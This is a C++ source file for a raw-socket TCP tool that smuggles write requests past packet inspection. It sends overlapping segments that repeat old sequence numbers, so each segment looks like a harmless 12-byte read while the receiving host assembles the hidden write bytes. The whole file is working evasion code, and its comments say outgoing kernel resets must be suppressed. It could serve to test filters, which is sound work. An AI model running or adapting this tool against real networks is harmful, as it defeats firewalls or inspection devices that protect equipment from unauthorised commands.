// Speaks TCP by itself over a raw socket, so that segments may overlap as no kernel sends them:
// smuggle SOURCE SOURCE-PORT DESTINATION PORT READ WRITE (both in hex, 12 bytes each)
// The kernel knows nothing of the connection: somebody must keep its resets from leaving.
// Sends READ, then WRITE four new bytes at a time. Each segment carries 12 bytes that look like a
// read; the first eight repeat old sequence numbers, so that the receiver keeps the last four alone.
// Prints, in hex, the bytes that came back. Ends with 1 where the connection was not opened.
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

using Bytes = std::vector<uint8_t>;

static Bytes from_hex(const char *text) {
  Bytes all;
  for (size_t at = 0; at + 1 < strlen(text); at += 2) {
    all.push_back(static_cast<uint8_t>(std::stoi(std::string(text + at, 2), nullptr, 16)));
  }
  return all;
}

static uint32_t sum_of(const void *bytes, size_t length, uint32_t sum) {
  const uint8_t *at = static_cast<const uint8_t *>(bytes);
  for (size_t i = 0; i < length; i += 2) {
    sum += static_cast<uint32_t>(at[i] << 8 | (i + 1 < length ? at[i + 1] : 0));
  }
  return sum;
}

static uint16_t folded(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons(static_cast<uint16_t>(~sum));
}

struct Conversation {
  in_addr_t source, destination;
  uint16_t source_port, port;
  int raw;
  uint32_t next = 1000, expected = 0;
  Bytes heard;
  bool open = false;

  void send_segment(uint32_t sequence, uint8_t flags, const Bytes &payload) {
    tcphdr tcp{};
    tcp.source = htons(source_port);
    tcp.dest = htons(port);
    tcp.seq = htonl(sequence);
    tcp.ack_seq = htonl(expected);
    tcp.doff = 5;
    tcp.th_flags = flags;
    tcp.window = htons(65000);
    Bytes segment(sizeof tcp + payload.size());
    if (!payload.empty()) memcpy(segment.data() + sizeof tcp, payload.data(), payload.size());
    memcpy(segment.data(), &tcp, sizeof tcp);
    uint32_t sum = sum_of(&source, 4, 0);
    sum = sum_of(&destination, 4, sum) + IPPROTO_TCP + static_cast<uint32_t>(segment.size());
    tcp.check = folded(sum_of(segment.data(), segment.size(), sum));
    memcpy(segment.data(), &tcp, sizeof tcp);
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_addr.s_addr = destination;
    sendto(raw, segment.data(), segment.size(), 0, reinterpret_cast<sockaddr *>(&to), sizeof to);
  }

  // Reads and acknowledges what comes for so long.
  void listen_for(int milliseconds) {
    using clock = std::chrono::steady_clock;
    const auto until = clock::now() + std::chrono::milliseconds(milliseconds);
    for (;;) {
      const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(until - clock::now());
      pollfd waiting{raw, POLLIN, 0};
      if (left.count() <= 0 || poll(&waiting, 1, static_cast<int>(left.count())) <= 0) return;
      uint8_t packet[4096];
      const ssize_t length = recv(raw, packet, sizeof packet, 0);
      if (length >= 40) hear(packet, static_cast<size_t>(length));
    }
  }

  void hear(const uint8_t *packet, size_t length) {
    ip header;
    memcpy(&header, packet, sizeof header);
    const size_t at = header.ip_hl * 4u;
    tcphdr tcp;
    memcpy(&tcp, packet + at, sizeof tcp);
    const bool ours = header.ip_src.s_addr == destination && ntohs(tcp.source) == port &&
                      ntohs(tcp.dest) == source_port;
    if (!ours || (tcp.th_flags & TH_RST)) return;
    const uint32_t sequence = ntohl(tcp.seq);
    if ((tcp.th_flags & TH_SYN) && !open) {
      open = true;
      next += 1;
      expected = sequence + 1;
      send_segment(next, TH_ACK, {});
      return;
    }
    const size_t from = at + tcp.doff * 4u;
    if (length <= from || sequence != expected) return;
    heard.insert(heard.end(), packet + from, packet + length);
    expected += static_cast<uint32_t>(length - from);
    send_segment(next, TH_ACK, {});
  }
};

int main(int count, char **words) {
  if (count != 7) return 2;
  Conversation talk{};
  talk.source = inet_addr(words[1]);
  talk.destination = inet_addr(words[3]);
  talk.port = static_cast<uint16_t>(atoi(words[4]));
  talk.source_port = static_cast<uint16_t>(atoi(words[2]));
  talk.raw = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
  const Bytes read = from_hex(words[5]), write = from_hex(words[6]);
  if (talk.raw < 0 || read.size() != 12 || write.size() != 12) return 2;

  talk.send_segment(talk.next, TH_SYN, {});
  talk.listen_for(100);
  if (!talk.open) return 1;
  talk.send_segment(talk.next, TH_ACK | TH_PUSH, read);
  talk.next += 12;
  talk.listen_for(100);
  for (size_t at = 0; at < write.size(); at += 4) {
    Bytes looks_like_read(read.begin(), read.begin() + 8);
    looks_like_read.insert(looks_like_read.end(), write.begin() + static_cast<long>(at),
                           write.begin() + static_cast<long>(at) + 4);
    talk.send_segment(talk.next - 8, TH_ACK | TH_PUSH, looks_like_read);
    talk.next += 4;
    talk.listen_for(30);
  }
  talk.listen_for(300);
  talk.send_segment(talk.next, TH_RST | TH_ACK, {});
  for (const uint8_t byte : talk.heard) printf("%02x", byte);
  printf("\n");
  return 0;
}
